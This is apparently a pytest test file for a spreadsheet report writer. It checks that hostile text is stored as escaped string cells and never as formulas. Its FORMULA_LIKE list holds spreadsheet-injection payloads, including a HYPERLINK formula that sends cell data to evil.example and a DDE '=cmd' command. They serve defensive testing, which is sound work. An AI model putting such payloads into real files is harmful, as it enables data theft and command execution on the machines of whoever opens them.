"""Text in the workbook is data, never code: hostile texts through every way a report writes a cell.

Each text goes through `cell()` (header values), a raw `ws.append` (status rows) and `table_rows` (node lists), and
is checked twice: as openpyxl reads it back (value and data type) and in the sheet XML itself (no `<f>` element,
the XML parses). Expected texts are written out here, independently of `escape_text`.
"""

import re
import zipfile
from xml.etree import ElementTree

import pandas as pd
import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from metrics_utility.library.reports.xlsx import Column, cell, formula, new_workbook, table_rows

pytestmark = pytest.mark.unit
NS = {'m': 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'}
PATHS = ('cell', 'append', 'table_rows')

# C0 controls XML 1.0 cannot carry (all but tab, LF; CR is normalised to LF by XML readers) → `_xHHHH_`.
ESCAPED_CONTROLS = [c for c in range(0x20) if c not in (0x09, 0x0A)]
NOT_XML = [0xFFFE, 0xFFFF, 0xD800, 0xDBFF, 0xDC80, 0xDFFF]  # non-characters and lone surrogates → `_xHHHH_`


def _write(tmp_path, texts):
    """One workbook: sheet 'cell' via cell(), 'append' via raw ws.append, 'table_rows' via the fast renderer."""
    wb = new_workbook()
    by_cell = wb.create_sheet('cell')
    for text in texts:
        by_cell.append([cell(by_cell, text, bold=True)])
    raw = wb.create_sheet('append')
    for text in texts:
        raw.append([text])
    rows = wb.create_sheet('table_rows')
    # object dtype: an Arrow-backed 'str' column cannot hold lone surrogates (only header variables can: os.environ
    # decodes bytes that are not UTF-8 as surrogates)
    table_rows(rows, [Column('Host name', 'host_name')], pd.DataFrame({'host_name': pd.Series(texts, dtype=object)}))
    path = tmp_path / 'text.xlsx'
    wb.save(path)
    return path


def _read(path):
    """sheet → [(value, data_type, quotePrefix)] as openpyxl reads it (table_rows: without its header)."""
    wb = load_workbook(path)
    out = {}
    for name in PATHS:
        cells = [row[0] for row in wb[name].iter_rows()]
        cells = cells[1:] if name == 'table_rows' else cells
        out[name] = [(c.value, c.data_type, bool(c.quotePrefix)) for c in cells]
    return out


def _xml_formulas(path):
    """Every `<f>` element of every sheet, after checking each sheet is well-formed XML."""
    found = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if re.fullmatch(r'xl/worksheets/sheet\d+\.xml', name):
                root = ElementTree.fromstring(z.read(name))
                found += [f.text for f in root.iter(f'{{{NS["m"]}}}f')]
    return found


@pytest.mark.hostile
@pytest.mark.parametrize('code', ESCAPED_CONTROLS + NOT_XML, ids=lambda c: f'U+{c:04X}')
def test_characters_xml_cannot_hold_are_escaped_visibly_and_reversibly(tmp_path, code):
    name = f'web{chr(code)}01'
    lookalike = f'web_x{code:04X}_01'  # a host literally named like the escape
    path = _write(tmp_path, [name, 'web01', lookalike])
    expected = [(f'web_x{code:04X}_01', 's', False), ('web01', 's', False), (f'web_x005F_x{code:04X}_01', 's', False)]
    assert _read(path) == dict.fromkeys(PATHS, expected)
    assert _xml_formulas(path) == []
    assert [unescape(v) for v, _, _ in expected] == [name, 'web01', lookalike]  # reversible: three identities


@pytest.mark.hostile
@pytest.mark.parametrize(
    'text',
    ['web\x7f01', 'web\x8501', 'web\x9f01', 'tab\there', 'new\nline', ' padded '],
    ids=['DEL', 'C1-NEL', 'C1-APC', 'tab-inside', 'LF-inside', 'padding'],
)
def test_characters_xml_holds_are_written_as_themselves(tmp_path, text):
    path = _write(tmp_path, [text])
    assert _read(path) == {key: [(text, 's', False)] for key in PATHS}


FORMULA_LIKE = [  # (text, cell text as read back, quote prefix)
    ('=HYPERLINK("http://evil.example/?d="&A1,"Click")', '=HYPERLINK("http://evil.example/?d="&A1,"Click")', True),
    ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", True),
    ('=1+1', '=1+1', True),
    ('+1', '+1', True),
    ('-1+2', '-1+2', True),
    ('@SUM(A1)', '@SUM(A1)', True),
    ('\t=1', '\t=1', True),
    ('\r=1', '_x000D_=1', True),
    ('\uff1d1+1', '\uff1d1+1', True),
    ('\uff0b1', '\uff0b1', True),
    ('\uff0d1', '\uff0d1', True),
    ('\uff20SUM(A1)', '\uff20SUM(A1)', True),
    ('#N/A', '#N/A', False),
    ('#REF!', '#REF!', False),
    ('42', '42', False),
    ('1e5', '1e5', False),
    ('web=01', 'web=01', False),
]


@pytest.mark.hostile
@pytest.mark.parametrize(('text', 'shown', 'prefixed'), FORMULA_LIKE, ids=[repr(t[0])[1:21] for t in FORMULA_LIKE])
def test_formula_like_text_is_a_string_cell(tmp_path, text, shown, prefixed):
    path = _write(tmp_path, [text])
    assert _read(path) == {key: [(shown, 's', prefixed)] for key in PATHS}
    assert _xml_formulas(path) == []


def test_numbers_stay_numbers_and_formula_is_the_only_way_to_code(tmp_path):
    wb = new_workbook()
    ws = wb.create_sheet('s')
    ws.append([42, 2.5, cell(ws, 7, fmt='#,##0'), formula(ws, '=A1*B1'), '=A1*B1'])
    path = tmp_path / 'n.xlsx'
    wb.save(path)
    row = next(load_workbook(path)['s'].iter_rows())
    assert [(c.value, c.data_type) for c in row] == [(42, 'n'), (2.5, 'n'), (7, 'n'), ('=A1*B1', 'f'), ('=A1*B1', 's')]
    assert _xml_formulas(path) == ['A1*B1']
    with pytest.raises(ValueError, match="not a formula: 'A1'"):
        formula(ws, 'A1')
